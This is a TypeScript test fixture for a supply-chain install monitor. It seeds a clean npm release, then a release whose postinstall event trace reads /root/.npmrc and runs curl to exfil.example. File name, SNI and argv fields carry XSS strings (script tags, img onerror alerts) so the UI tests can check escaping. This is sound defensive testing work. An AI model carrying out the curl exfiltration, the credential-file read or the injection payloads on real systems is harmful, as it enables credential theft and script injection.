// Seeds an orchestrator through its real HTTP paths (scan submit → runner
// register/claim → event batches → finish → differ): a clean first release
// that seeds the baseline, then a release whose install does new, hostile
// things. Attacker-controlled strings (file name, SNI, argv, DNS name) carry
// HTML/JS payloads so the UI tests can check they render as text.
// Used by the in-process tests (app.request) and the browser tests (HTTP).
import type { FangsEvent } from "../../src/events/types.ts";

export type Call = (method: string, path: string, body?: unknown, headers?: Record<string, string>) => Promise<{ status: number; json: any }>;

export const HOSTILE_FILE = "/tmp/<script>alert(1)</script>.js";
export const HOSTILE_SNI = `"><img src=x onerror=alert(2)>.example`;
export const HOSTILE_ARGV = `<img src=x onerror=alert(3)>`;
export const PKG = "ui-demo";
export const PACKAGE_FILES = 150; // more than one events page (100)

const anc = (...a: Array<[number, string, string]>) => a.map(([pid, comm, exe]) => ({ pid, comm, exe }));
const NPM = anc([10, "npm install ui-", "/usr/local/bin/node"], [1, "init", "/sbin/init"]);
const SH = anc([20, "sh", "/bin/busybox"], ...NPM.map((x) => [x.pid, x.comm, x.exe] as [number, string, string]));
const NODE = anc([30, "node", "/usr/local/bin/node"], ...SH.map((x) => [x.pid, x.comm, x.exe] as [number, string, string]));

function common(seq: number, pid: number, comm: string, exe: string, ancestry: ReturnType<typeof anc>) {
  return { seq, ts_ns: 1_000_000 + seq, pid, ppid: ancestry[0]?.pid ?? 0, uid: 0, comm, exe, cgroup_id: "42", ancestry, source: "test" };
}

function packageFiles(start: number): FangsEvent[] {
  return Array.from({ length: PACKAGE_FILES }, (_, i) => ({ ...common(start + i, 10, "npm install ui-", "/usr/local/bin/node", NPM.slice(1)), kind: "file", path: `/app/node_modules/${PKG}/lib/f${i}.js`, flags: 0, access: "read" }) as FangsEvent);
}

export function cleanEvents(): FangsEvent[] {
  return [{ ...common(0, 10, "npm install ui-", "/usr/local/bin/node", NPM.slice(1)), kind: "exec", filename: "/usr/local/bin/npm", argv: ["npm", "install", PKG] }, ...packageFiles(1)];
}

export function hostileEvents(): FangsEvent[] {
  const base = cleanEvents();
  let seq = base.length;
  return [
    ...base,
    { ...common(seq++, 20, "sh", "/bin/busybox", NPM), kind: "exec", filename: "/bin/sh", argv: ["sh", "-c", "node postinstall.js"] },
    { ...common(seq++, 30, "node", "/usr/local/bin/node", SH), kind: "exec", filename: "/usr/local/bin/node", argv: ["node", "postinstall.js", HOSTILE_ARGV] },
    { ...common(seq++, 30, "node", "/usr/local/bin/node", SH), kind: "file", path: "/root/.npmrc", flags: 0, access: "read" },
    { ...common(seq++, 30, "node", "/usr/local/bin/node", SH), kind: "file", path: HOSTILE_FILE, flags: 0o101, access: "create" },
    { ...common(seq++, 40, "curl", "/usr/bin/curl", NODE), kind: "exec", filename: "/usr/bin/curl", argv: ["curl", "https://exfil.example/"] },
    { ...common(seq++, 40, "curl", "/usr/bin/curl", NODE), kind: "connect", family: "inet", address: "203.0.113.7", port: 443, proto: "tcp" },
    { ...common(seq++, 40, "curl", "/usr/bin/curl", NODE), kind: "tls", sni: HOSTILE_SNI, address: "203.0.113.7", port: 443 },
  ] as FangsEvent[];
}

async function ok(what: string, p: Promise<{ status: number; json: any }>, status = 200) {
  const r = await p;
  if (r.status !== status) throw new Error(`${what}: HTTP ${r.status} ${JSON.stringify(r.json)}`);
  return r.json;
}

/** One scan through the real protocol; returns the finished run id. */
async function scan(call: Call, runner: string, version: string, events: FangsEvent[], finish: Record<string, unknown> = {}) {
  const h = { "X-Fangs-Runner": runner };
  const sub = await ok("scan", call("POST", "/v1/scans", { package: PKG, version }), 201);
  const claim = await ok("claim", call("POST", `/v1/runners/${runner}/claim?wait=1`, undefined, h));
  if (claim.run?.id !== sub.run_id) throw new Error(`claimed ${JSON.stringify(claim)} instead of ${sub.run_id}`);
  for (let i = 0; i * 100 < events.length; i++) await ok("batch", call("POST", `/v1/runs/${sub.run_id}/events`, { batch_seq: i, events: events.slice(i * 100, i * 100 + 100) }, h));
  const fin = await ok("finish", call("POST", `/v1/runs/${sub.run_id}/finish`, { status: "finished", exit_code: 0, events_sent: events.length, events_dropped: 0, ...finish }, h));
  return { id: sub.run_id as string, verdict: fin.verdict as string };
}

export interface Seeded { seedRun: string; badRun: string; oomRun: string }

export async function seed(call: Call, runner = "ui-runner"): Promise<Seeded> {
  await ok("register", call("POST", "/v1/runners/register", { id: runner, hostname: runner, version: "test", probes: [] }));
  const seedRun = await scan(call, runner, "1.0.0", cleanEvents());
  if (seedRun.verdict !== "seeded") throw new Error(`first run verdict ${seedRun.verdict}`);
  const bad = await scan(call, runner, "1.0.1", hostileEvents());
  if (bad.verdict !== "deviations") throw new Error(`hostile run verdict ${bad.verdict}`);
  const oom = await scan(call, runner, "1.0.2", cleanEvents(), { status: "failed", exit_code: 137, events_dropped: 7, failure_reason: "container exit_code=137" });
  return { seedRun: seedRun.id, badRun: bad.id, oomRun: oom.id };
}
